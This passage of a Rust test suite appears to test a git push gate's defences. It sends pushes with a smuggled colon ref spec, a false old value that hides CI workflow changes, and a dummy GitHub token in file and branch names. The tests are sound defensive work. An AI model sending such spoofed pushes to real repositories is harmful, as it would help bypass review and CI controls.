    let x = sh(git(&work).args(["commit-tree", &tree, "-m", "x"]));
    let x = x.trim().to_owned();
    let out = raw_push(
        &g,
        &work,
        &[(
            ZERO.into(),
            x.clone(),
            "refs/heads/bottle/me/a:refs/heads/main".into(),
        )],
        &[x.clone(), c.clone()],
    );
    assert_eq!(up.rev("r", "main"), before, "upstream main moved: {out}");
    assert!(out.contains("is not a ref name git accepts"), "{out}");
}

/// receive-pack hands the hook the client's claimed old value unchecked: a new branch said to
/// be at its own tip would show the CI check no change at all.
#[test]
fn a_push_lying_about_a_refs_old_value_is_refused() {
    let (up, g) = setup(PushPolicy::default());
    let (_s, work) = scratch_clone(&g, 2);
    let c = commit_file(&work, ".github/workflows/x.yml", "on: push\n", "ci");
    let out = raw_push(
        &g,
        &work,
        &[(c.clone(), c.clone(), "refs/heads/ci".into())],
        std::slice::from_ref(&c),
    );
    assert!(
        out.contains("the push says refs/heads/ci was at") && out.contains("does not exist"),
        "{out}"
    );
    assert_eq!(up.rev("r", "ci"), None);
    // Told the truth, the CI check sees the change.
    let out = raw_push(
        &g,
        &work,
        &[(ZERO.into(), c.clone(), "refs/heads/ci".into())],
        &[c],
    );
    assert!(out.contains("changes CI definitions"), "{out}");
    assert_eq!(up.rev("r", "ci"), None);
}

/// A name carries a secret as well as content: a file of known content (rev-list names no
/// object the gate already has) under a token's name, and a branch named with one.
#[test]
fn secrets_in_file_and_ref_names_are_refused() {
    let (up, g) = setup(PushPolicy::default());
    let before = up.rev("r", "main");
    let ghp = format!("ghp_{}", "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8");
    let (_s, work) = scratch_clone(&g, 2);
    let readme = sh(git(&work).args(["ls-files"]))
        .lines()
        .next()
        .map(str::to_owned);
    let known = readme.expect("the upstream repo has a file");
    std::fs::copy(work.join(&known), work.join(&ghp)).unwrap();
    sh(git(&work).args(["add", "-A"]));
    sh(git(&work).args(["commit", "-q", "-m", "copy"]));
    let o = run(git(&work).args(["push", "origin", "main"]));
    let out = text(&o);
    assert!(
        !o.status.success() && out.contains("a name in tree"),
        "{out}"
    );
    assert!(!out.contains(&ghp), "{out}");
    assert_eq!(up.rev("r", "main"), before);
    let (_s, work) = scratch_clone(&g, 2);
    commit_file(&work, "b.txt", "b\n", "b");
    let o = run(git(&work).args(["push", "origin", &format!("HEAD:refs/heads/x/{ghp}")]));
    let out = text(&o);
    assert!(
        !o.status.success() && out.contains("a ref name carries what looks like a secret"),
        "{out}"
    );
    // git's client names its own ref; the gate's lines do not repeat it.
    assert!(
        !out.lines()
            .any(|l| l.starts_with("remote:") && l.contains(&ghp)),
        "{out}"
    );
    assert_eq!(up.rev("r", &format!("refs/heads/x/{ghp}")), None);
}

/// With force allowed, a rewrite lands upstream, over the value the gate judged.
#[test]
fn an_allowed_force_push_rewrites_upstream() {
    let (up, g) = setup(PushPolicy {
        allow_force: true,
        ..PushPolicy::default()
    });
    let (_s, work) = scratch_clone(&g, 2);
    commit_file(&work, "a.txt", "a\n", "one");
    sh(git(&work).args(["push", "-q", "origin", "main"]));
    sh(git(&work).args(["reset", "-q", "--hard", "HEAD~1"]));
    let rewritten = commit_file(&work, "b.txt", "b\n", "rewritten");
    let o = run(git(&work).args(["push", "--force", "origin", "main"]));
    assert!(o.status.success(), "{}", text(&o));
    assert_eq!(up.rev("r", "main").as_deref(), Some(rewritten.as_str()));
}

/// Stopped, the gate writes a numbered last line: the ledger then knows how many lines there
/// were, and lines the engine's log limit rotated away before it are a gap on record.
#[test]
fn a_stopped_gate_writes_a_numbered_last_line() {
    let (_up, mut g) = setup(PushPolicy::default());
    let start = g.wait_for(0, |v| v["op"] == "start");
    let status = g.signal_and_wait(rustix::process::Signal::TERM);
    assert!(status.success(), "{status:?}");
    let stop = g.wait_for(0, |v| v["op"] == "stop");
    assert!(
        stop["seq"].as_u64() > start["seq"].as_u64(),
        "{start} then {stop}"
    );
}
